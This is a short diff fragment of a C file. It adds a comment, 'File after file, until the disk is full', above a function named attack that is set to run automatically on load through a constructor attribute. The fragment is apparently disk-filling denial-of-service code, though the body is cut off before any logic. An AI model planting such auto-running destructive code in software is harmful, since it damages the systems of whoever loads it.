@@ -3,6 +3,7 @@
 #include <stdio.h>
 #include <unistd.h>
 
+/* File after file, until the disk is full. */
 __attribute__((constructor)) static void attack(void)
 {
     static char block[1 << 20];
